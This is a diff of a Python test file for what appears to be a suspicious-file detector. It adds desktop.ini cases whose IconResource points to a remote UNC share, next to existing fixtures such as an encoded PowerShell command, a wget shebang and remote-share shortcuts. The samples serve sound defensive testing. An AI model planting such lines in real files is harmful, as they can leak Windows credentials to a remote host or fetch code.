@@ -53,6 +53,11 @@ def test_a_script_that_only_starts_something_is_suspicious(text: str, name: str)
     [
         ("[InternetShortcut]\r\nURL=file://a.example/b/c.exe\r\n", "a.url", "script.share"),
         ("[Shell]\r\nIconFile=\\\\192.0.2.1\\a\\b.ico\r\n", "a.scf", "script.share"),
+        (
+            "[.ShellClassInfo]\nIconResource=\\\\192.0.2.1\\a\\b.ico\n",
+            "desktop.ini",
+            "script.share",
+        ),
         ("<url>\\\\a.example\\DavWWWRoot\\b</url>", "a.library-ms", "script.share"),
         ("[InternetShortcut]\r\nURL=https://a.example/\r\n", "a.url", "script.web"),
         ("WEB\n1\nhttps://a.example/q\n", "a.iqy", "script.web"),
@@ -77,6 +82,8 @@ def test_the_evidence_quotes_the_lines_with_harmless_addresses() -> None:
         ("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=", "notes.txt"),
         ("#!/bin/sh\nwget https://a.example/b\n", "0001-fix.patch"),
         ("alert(1)", "a.js"),
+        ("[.ShellClassInfo]\nIconResource=C:\\Windows\\a.dll,3\n", "desktop.ini"),
+        ("[.ShellClassInfo]\nIconResource=\\\\192.0.2.1\\a\\b.ico\n", "settings.ini"),
         ("[InternetShortcut]\r\nURL=mailto:a@a.example\r\n", "a.url"),
         ("Bonjour, le script est joint.", "lettre.txt"),
     ],
